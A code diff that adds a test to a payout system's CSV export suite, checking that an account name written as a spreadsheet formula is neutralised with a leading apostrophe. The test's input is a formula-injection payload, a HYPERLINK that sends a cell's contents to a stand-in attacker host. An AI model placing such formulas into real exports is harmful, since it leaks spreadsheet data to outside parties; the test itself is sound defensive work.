@@ -65,6 +65,24 @@ def test_the_bank_csv_lists_iban_and_amount(released, iban_account, operator):
     assert export_csv(batch, "jazzcash").count("\n") == 1  # header only
 
 
+def test_the_payout_csv_neutralises_an_account_name_written_as_a_spreadsheet_formula(
+    released, operator, supplier
+):
+    PayoutAccount.objects.create(
+        supplier=supplier,
+        rail="bank",
+        account_name='=HYPERLINK("https://evil.example/?d="&A1,"Workshop")',
+        iban="PK36SCBL0000001123456702",
+    )
+    batch = create_payout_batch(currency="USD", actor=operator)
+
+    rows = list(csv.reader(io.StringIO(export_csv(batch, "bank"))))
+
+    # A leading apostrophe makes Excel and LibreOffice show the text instead of running it.
+    assert rows[1][1] == '\'=HYPERLINK("https://evil.example/?d="&A1,"Workshop")'
+    assert rows[1][3] == "118.75"  # the amount stays a plain number
+
+
 def test_settling_twice_changes_nothing(released, iban_account, operator, supplier):
     batch = create_payout_batch(currency="USD", actor=operator)
 
